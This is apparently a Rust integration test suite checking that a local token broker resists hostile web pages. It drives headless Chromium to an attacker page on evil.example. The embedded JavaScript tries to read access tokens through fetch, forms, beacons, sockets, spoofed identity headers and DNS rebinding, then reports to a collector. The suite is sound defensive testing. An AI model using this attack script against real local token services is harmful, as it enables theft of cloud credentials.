//! Web pages, in a real browser on the broker's own computer.
//!
//! The pages know everything but how to be let in: the port, the paths, even a caller's secret.

use std::{
    net::SocketAddr,
    path::PathBuf,
    process::{Child, Command, Stdio},
    time::Duration,
};

use axum::{
    Router,
    response::Html,
    routing::{get, post},
};
use serde_json::{Value, json};
use tokio::{net::TcpListener, sync::mpsc, task::JoinHandle, time::timeout};

use crate::{
    raw::{assert_nothing_left, reasons, target},
    support::{House, SECRET, folder},
};

/// A browser may take its time to start.
const DEADLINE: Duration = Duration::from_secs(90);

/// Chromium with a profile of its own; it ends with the test.
struct Browser {
    process: Child,
    profile: PathBuf,
}

impl Browser {
    /// Opens a page. The name `evil.example` leads to this computer. None where there is no Chromium: then nothing was
    /// tested, and the output says so; in CI that is a failure.
    fn open(url: &str) -> Option<Self> {
        let profile = folder();
        let chromium = std::env::var("CHROMIUM").unwrap_or("chromium".into());
        let mut command = Command::new(chromium);
        command.args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync"]);
        command.args(["--disable-background-networking", "--disable-component-update", "--no-proxy-server"]);
        command.arg(format!("--user-data-dir={}", profile.display()));
        command.args(["--host-resolver-rules=MAP evil.example 127.0.0.1", url]);
        match command.stdout(Stdio::null()).stderr(Stdio::null()).spawn() {
            Ok(process) => Some(Self { process, profile }),
            Err(error) => {
                assert!(std::env::var_os("CI").is_none(), "Chromium cannot be run: {error}");
                eprintln!("NOT TESTED: Chromium cannot be run ({error}); set CHROMIUM to its path");
                None
            }
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
        let _ = std::fs::remove_dir_all(&self.profile);
    }
}

/// The attacker's server: gives out the page, and takes what the page found out.
struct Attacker {
    address: SocketAddr,
    reports: mpsc::UnboundedReceiver<Value>,
    visits: mpsc::UnboundedReceiver<()>,
    server: JoinHandle<()>,
}

impl Attacker {
    fn start(listener: TcpListener, page: String) -> Self {
        let address = listener.local_addr().unwrap();
        let (report, reports) = mpsc::unbounded_channel();
        let (visit, visits) = mpsc::unbounded_channel();
        let give = get(move || async move {
            let _ = visit.send(());
            // no connection outlives the server
            ([("connection", "close")], Html(page))
        });
        let take = post(move |text: String| async move {
            let _ = report.send(serde_json::from_str(&text).unwrap());
        });
        let router = Router::new().route("/", give).route("/report", take);
        let server = tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
        Self { address, reports, visits, server }
    }

    fn origin(&self, host: &str) -> String {
        format!("http://{host}:{}", self.address.port())
    }

    fn url(&self, host: &str) -> String {
        format!("{}/", self.origin(host))
    }

    /// Waits until the page was given out.
    async fn served(&mut self) {
        timeout(DEADLINE, self.visits.recv()).await.expect("the browser opened no page").unwrap();
    }

    async fn report(&mut self) -> Value {
        timeout(DEADLINE, self.reports.recv()).await.expect("the page reported nothing").unwrap()
    }

    /// Nobody listens there any more.
    async fn end(mut self) {
        self.server.abort();
        let _ = (&mut self.server).await;
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.server.abort();
    }
}

/// What a page can try. `broker` is where it sends everything; outcomes in capitals are successes.
fn attack(broker: &str, target: &str, collector: &str, before: &str) -> String {
    let script = r#"
const outcomes = {};
const read = async (name, options, url = TARGET) => {
  try {
    const answer = await fetch(BROKER + url, options);
    const text = await answer.text();
    outcomes[name] = text.includes("access_token") ? "TOKEN" : answer.type === "opaque" ? "sent blindly" : "refused " + answer.status;
  } catch { outcomes[name] = "failed"; }
};
const load = (name, tag, attribute) => new Promise((resolve) => {
  const element = document.createElement(tag);
  const end = (word) => { outcomes[name] = word; resolve(); };
  element.onload = () => end(tag === "iframe" ? "shown or refused" : "LOADED");
  element.onerror = () => end("failed");
  element[attribute] = BROKER + TARGET;
  if (tag === "link") element.rel = "stylesheet";
  document.body.append(element);
  setTimeout(() => end("nothing"), 5000);
});
const form = (name, enctype) => {
  const element = document.createElement("form");
  Object.assign(element, { method: "post", enctype, action: BROKER + "/v1/token", target: "sink" });
  const field = document.createElement("input");
  Object.assign(field, { name: '{"identity":"graph","tenant":"TENANT","x":"', value: '"}' });
  element.append(field);
  document.body.append(element);
  element.submit();
  outcomes[name] = "sent blindly";
};
addEventListener("load", async () => {
  BEFORE
  const headers = { authorization: "Bearer SECRET" };
  const body = JSON.stringify({ identity: "graph", tenant: "TENANT" });
  await read("get", {});
  await read("get with the secret", { headers });
  await read("get blindly", { mode: "no-cors" });
  await read("get with cookies", { credentials: "include" });
  await read("post JSON with the secret", { method: "POST", body, headers: { ...headers, "content-type": "application/json" } });
  await read("post text blindly", { method: "POST", mode: "no-cors", body, headers: { "content-type": "text/plain" } }, "/v1/token");
  await read("post a form blindly", { method: "POST", mode: "no-cors", body: new URLSearchParams({ resource: "https://graph.microsoft.com" }) }, "/msi/graph/TENANT");
  await read("as App Service", { headers: { "x-identity-header": "SECRET" } }, "/msi/graph/TENANT?resource=https://graph.microsoft.com");
  await read("into a private network", { targetAddressSpace: "loopback", headers });
  await read("keepalive", { method: "POST", mode: "no-cors", keepalive: true, body });
  outcomes.beacon = navigator.sendBeacon(BROKER + "/v1/token", body) ? "sent blindly" : "failed";
  await load("script", "script", "src");
  await load("image", "img", "src");
  await load("style", "link", "href");
  await load("frame", "iframe", "src");
  await new Promise((resolve) => {
    const socket = new WebSocket(BROKER.replace("http", "ws") + TARGET);
    socket.onopen = () => { outcomes.socket = "OPEN"; resolve(); };
    socket.onerror = () => { outcomes.socket = "failed"; resolve(); };
  });
  await new Promise((resolve) => {
    const events = new EventSource(BROKER + TARGET);
    events.onmessage = () => { outcomes.events = "MESSAGE"; events.close(); resolve(); };
    events.onerror = () => { outcomes.events = "failed"; events.close(); resolve(); };
  });
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) form("form as " + enctype, enctype);
  await new Promise((resolve) => setTimeout(resolve, 500));
  await fetch("COLLECTOR/report", { method: "POST", mode: "no-cors", body: JSON.stringify(outcomes) });
});
"#;
    let tenant = target.rsplit('=').next().unwrap();
    let script = script
        .replace("TARGET", &format!("\"{target}\""))
        .replace("BEFORE", before)
        .replace("BROKER", &format!("\"{broker}\""))
        .replace("TENANT", tenant)
        .replace("SECRET", SECRET)
        .replace("COLLECTOR", collector);
    format!("<!doctype html><body><iframe name=sink></iframe><script>{script}</script>")
}

fn assert_harmless(house: &House, report: &Value) {
    let outcomes = report.as_object().unwrap();
    assert!(outcomes.len() >= 18, "{report}");
    for (name, outcome) in outcomes {
        let outcome = outcome.as_str().unwrap();
        assert!(!outcome.starts_with(|first: char| first.is_ascii_uppercase()), "{name}: {outcome}");
    }
    // the journal is the proof: whatever left the browser was turned away before a door
    assert_nothing_left(house);
    assert!(
        house.events("turned-away").iter().all(|line| line["door"] == "guard"),
        "{:?}",
        house.events("turned-away")
    );
    assert_eq!(house.events("denied"), Vec::<Value>::new());
}

#[tokio::test]
async fn a_page_of_another_site_or_of_another_port_gets_and_does_nothing() {
    let house = House::start().await;
    for host in ["evil.example", "127.0.0.1"] {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let mut attacker = Attacker::start(listener, attack(&house.url(""), &target(&house), "", ""));
        let Some(browser) = Browser::open(&attacker.url(host)) else { return };
        let report = attacker.report().await;
        drop(browser);
        assert_harmless(&house, &report);
        let reasons = reasons(&house);
        assert!(reasons.iter().any(|reason| reason == "cross-site"), "{reasons:?}");
        assert!(reasons.iter().all(|reason| reason == "cross-site"), "{reasons:?}");
    }
}

/// The name of the attacker's server becomes a name of this computer while its page is open (DNS rebinding): one origin,
/// so the browser lets the page send everything and read every answer.
#[tokio::test]
async fn a_page_whose_name_was_bound_to_the_broker_gets_and_does_nothing() {
    // the page comes from the port that the broker has after it
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let place = listener.local_addr().unwrap();
    let mut collector = Attacker::start(TcpListener::bind("127.0.0.1:0").await.unwrap(), String::new());
    let tenant = keystay_lab::Lab::start(keystay_lab::LabOptions::new()).await.unwrap().seed().juniper.id.to_string();
    let target = format!("/v1/token?identity=graph&tenant={tenant}");
    let page =
        attack(&format!("http://evil.example:{}", place.port()), &target, &collector.origin("evil.example"), REBOUND);
    let mut attacker = Attacker::start(listener, page);
    let Some(_browser) = Browser::open(&attacker.url("evil.example")) else { return };
    attacker.served().await;
    attacker.end().await;
    let house = House::with(|config| config["listen"]["loopback"] = json!(place.to_string())).await;
    assert_eq!(house.customer(), tenant, "the page asks for a token that a caller would get");
    let report = collector.report().await;
    assert_harmless(&house, &report);
    assert_eq!(report["get with the secret"], "refused 403");
    let reasons = reasons(&house);
    assert!(reasons.iter().any(|reason| reason == "wrong-host"), "{reasons:?}");
}

/// The page waits until somebody else answers under its name.
const REBOUND: &str = r#"
  for (;;) {
    try {
      const answer = await fetch("/", { cache: "no-store" });
      if (!(await answer.text()).includes("sink")) break;
    } catch { /* nobody listens for a moment */ }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
"#;
